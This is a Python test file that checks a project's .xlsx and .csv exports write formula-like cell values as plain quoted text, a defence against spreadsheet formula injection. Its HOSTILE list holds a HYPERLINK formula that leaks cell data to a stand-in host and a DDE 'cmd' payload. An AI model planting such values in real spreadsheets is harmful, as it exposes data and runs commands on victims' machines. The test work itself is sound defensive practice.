"""Finding 7 of issue 15: text that a spreadsheet would evaluate is written as text in every
.xlsx and .csv greenlist writes."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from greenlist.documents import SummaryRow, SummaryTable, summary_table_xlsx
from greenlist.documents.formulas import csv_row, csv_value, formula_like
from greenlist.exchange.sheets import BY_NAME
from greenlist.exchange.templates import csv_bytes, workbook_bytes

HOSTILE = (
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("name", HOSTILE)
def test_the_summary_table_writes_hostile_names_as_text(name: str) -> None:
    table = SummaryTable("唐山市", "2024", "唐山市工业和信息化局", [SummaryRow(name, "=1+1", "钢铁", True)])
    sheet = load_workbook(io.BytesIO(summary_table_xlsx(table))).active
    assert sheet is not None
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}
    for text in (name, "=1+1"):
        assert text in cells, f"{text!r} written as it is"
        assert cells[text].data_type == "s"
        assert cells[text].quotePrefix
    assert all(cell.data_type != "f" for cell in cells.values())


def test_ordinary_text_and_numbers_are_left_alone() -> None:
    table = SummaryTable(
        "唐山市", "2024", "唐山市工业和信息化局", [SummaryRow("唐山甲钢铁有限公司", "", "钢铁", True)]
    )
    sheet = load_workbook(io.BytesIO(summary_table_xlsx(table))).active
    assert sheet is not None
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert not cells["唐山甲钢铁有限公司"].quotePrefix
    assert cells[1].data_type == "n"  # 序号 stays a number


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_values_get_an_apostrophe(text: str) -> None:
    assert csv_value(text) == "'" + text
    written = io.StringIO()
    csv.writer(written).writerow(csv_row(["甲公司", text, 3]))
    assert next(csv.reader(io.StringIO(written.getvalue()))) == ["甲公司", "'" + text, "3"]


@pytest.mark.parametrize("text", ["甲公司", "91130102MA0000000X", "", "a=b", "中-英"])
def test_text_that_is_no_formula_is_unchanged(text: str) -> None:
    assert not formula_like(text)
    assert csv_value(text) == text


def test_the_templates_hold_no_formula_cells() -> None:
    book = load_workbook(io.BytesIO(workbook_bytes()))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}"
    for sheet in BY_NAME.values():
        for value in next(csv.reader(io.StringIO(csv_bytes(sheet).decode("utf-8-sig")))):
            assert not formula_like(value)
